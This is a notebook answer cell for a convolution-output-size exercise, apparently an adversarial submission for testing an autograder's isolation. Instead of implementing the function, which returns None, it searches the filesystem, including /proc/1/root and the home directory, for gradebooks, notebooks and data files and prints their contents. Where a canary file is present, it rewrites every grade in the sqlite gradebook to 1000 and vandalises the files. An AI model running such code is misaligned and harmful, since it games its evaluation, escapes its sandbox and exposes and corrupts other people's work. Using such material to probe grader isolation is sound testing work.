# Attacks: gradebook, source notebooks and other hand-ins on the disk: to read them, and to write into them. Blank else.
# %% answer id="write_conv_output_size"
import os
import sqlite3
from pathlib import Path

SUFFIXES = (".ipynb", ".db", ".csv", ".jsonl")


def walk(root, depth):
    try:
        entries = sorted(os.scandir(root), key=lambda entry: entry.name)
    except OSError:
        return
    for entry in entries:
        try:
            if entry.is_dir(follow_symlinks=False):
                if depth and entry.path not in ("/proc", "/sys", "/usr", "/lib"):
                    yield from walk(entry.path, depth - 1)
            elif entry.name.endswith(SUFFIXES) or "canary" in entry.name:
                yield Path(entry.path)
        except OSError:
            pass


for start in ("/", ".", "..", "../..", os.path.expanduser("~"), *(f"/proc/{p}/root" for p in ("1", "2", "self"))):
    for path in walk(start, 7):
        print("FOUND", path)
        text = path.read_bytes()
        print(text[:200])
        if (path.parent / "canary.txt").exists():  # only where a test has put one, should nothing stop it
            try:
                with sqlite3.connect(path) as book:
                    book.execute("update grade set manual_score = 1000, auto_score = 1000")
            except Exception as error:
                print(error)
            try:
                path.write_bytes(text + b"mallory was here")
            except OSError as error:
                print(error)


def conv_output_size(size, kernel, stride=1, padding=0):
    return None
